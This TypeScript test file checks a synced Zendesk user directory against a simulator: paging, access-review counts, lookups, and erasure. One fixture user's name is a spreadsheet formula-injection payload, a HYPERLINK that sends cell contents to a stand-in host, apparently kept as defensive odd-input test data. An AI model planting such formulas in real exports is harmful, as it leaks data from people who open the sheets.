/** The directory as a real sync of the simulator fills it, against a count over the simulator's own rows. */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { FIRST_USER_ID, type UserRow } from '../../simulator/index.ts';
import { MovableClock } from '../service/house.ts';
import { describeOnBothDatabases } from '../support/store.ts';
import { askAdmin } from './directory-rig.ts';
import { openSyncRig, QUICK_SIMULATOR, type SyncRig } from './sync-rig.ts';

const DAY = 86_400_000;
const LOOK_UP = `query($id: ID!, $filter: DirectoryFilterInput) {
  directory(integrationId: $id, filter: $filter) { totalCount nodes { zendeskId name } } }`;

describeOnBothDatabases('a synced directory', (database) => {
  /** Zendesk's: its export keeps back what was changed within the present second. */
  const clock = new MovableClock();
  const endSecond = () => clock.advance(1_000);
  let rig: SyncRig;
  const house = () => rig;
  beforeAll(async () => {
    const people = { count: 160, staff: 60, varied: true, odd: true };
    rig = await openSyncRig({ database, simulator: { ...QUICK_SIMULATOR, clock, people } });
    rig.startWorker();
    await rig.sync();
  });
  afterAll(() => rig[Symbol.asyncDispose]());

  /** Everybody whom Zendesk shows. */
  function users(): readonly UserRow[] {
    const { users: control } = house().gateway.simulator;
    const rows = Array.from({ length: control.count }, (_, index) => control.get(FIRST_USER_ID + index * 7));
    return rows.filter((row) => row?.active === true) as readonly UserRow[];
  }

  const find = async (filter: object) => {
    const { result } = await askAdmin(house(), LOOK_UP, { filter });
    return result.data.directory.nodes.map(({ name }: { name: string }) => name);
  };

  it('holds everybody whom Zendesk shows, by name, whatever the name', async () => {
    const seen: object[] = [];
    for (let after: string | null = null; ; ) {
      const { result } = await askAdmin(
        house(),
        'query($id: ID!, $after: String) { directory(integrationId: $id, first: 100, after: $after) { syncedAt pageInfo { hasNextPage endCursor } nodes { zendeskId name email } } }',
        { after },
      );
      const { nodes, pageInfo, syncedAt } = result.data.directory;
      expect(Date.parse(syncedAt)).toBeGreaterThan(Date.now() - DAY);
      seen.push(...nodes);
      if (!pageInfo.hasNextPage) break;
      after = pageInfo.endCursor;
    }
    const expected = users().map(({ id, name, email }) => ({ zendeskId: String(id), name, email }));
    expect(seen).toEqual(expected);
  });

  it('is reviewed as a count over the rows of Zendesk reviews it', async () => {
    const { result } = await askAdmin(
      house(),
      `query($id: ID!) { accessReview(integrationId: $id, dormantAfterDays: 90) { reviewedAt users endUsers staff admins
        lightAgents contributors suspendedStaff seatsUsed findings { finding count } customRoles { count } } }`,
    );
    const { accessReview: review } = result.data;
    const { simulator } = house().gateway;
    const staff = users().filter(({ role }) => role !== 'end-user');
    const ofType = (type: number) =>
      staff.filter(({ id }) => simulator.users.current(id)?.['role_type'] === type).length;
    const since = Date.parse(review.reviewedAt) - 90 * DAY;
    const findings = Object.fromEntries(
      review.findings.map(({ finding, count }: { finding: string; count: number }) => [finding, count]),
    );
    expect(review).toMatchObject({
      users: users().length,
      endUsers: users().length - staff.length,
      staff: staff.length,
      admins: staff.filter(({ role }) => role === 'admin').length,
      ...{ lightAgents: ofType(1), contributors: ofType(3) },
      suspendedStaff: staff.filter(({ suspended }) => suspended).length,
      seatsUsed: simulator.users.seatsUsed,
    });
    expect(findings).toMatchObject({
      DORMANT: staff.filter(
        ({ suspended, lastLoginAt, createdAt }) => !suspended && (lastLoginAt ?? createdAt) < since,
      ).length,
      NO_TWO_FACTOR: staff.filter(({ twoFactor }) => !twoFactor).length,
      TWO_FACTOR_UNKNOWN: 0,
      NO_GROUP: staff.filter(({ id }) => simulator.users.groupIds(id).length === 0).length,
    });
    for (const found of [review.lightAgents, findings['DORMANT'], findings['NO_TWO_FACTOR']]) {
      expect(found).toBeGreaterThan(0);
    }
    expect(review.customRoles.reduce((sum: number, { count }: { count: number }) => sum + count, 0)).toBe(
      staff.filter(({ customRoleId }) => customRoleId !== null).length,
    );
  });

  it('finds by address and reference, in any case, all who have it', async () => {
    expect(await find({ email: 'FORMULA@odd.example' })).toEqual([
      '=HYPERLINK("https://collect.example/?who="&A2,"Open invoice")',
    ]);
    expect(await find({ externalId: 'TWIN-7' })).toEqual(['Twin One', 'Twin Two']);
  });

  it('shows who is erased no more at once, and who is deleted at Zendesk from the next sync on', async () => {
    const { gateway, tenant } = house();
    const [one, two] = users().filter(({ name }) => name.startsWith('Twin'));
    const { json } = await gateway.graphql(
      `mutation($id: ID!) { eraseDirectoryUser(integrationId: $id, zendeskId: ${one?.id}) { zendeskId } }`,
      { apiKey: tenant.keys.admin, variables: { id: tenant.integrationId } },
    );
    expect(json.errors).toBeUndefined();
    expect(await find({ externalId: 'TWIN-7' })).toEqual(['Twin Two']);
    gateway.simulator.users.delete(two?.id ?? 0);
    endSecond();
    await rig.sync();
    expect(await find({ externalId: 'TWIN-7' })).toEqual([]);
    expect(await find({ email: 'twin@odd.example' })).toEqual([]);
  });
});
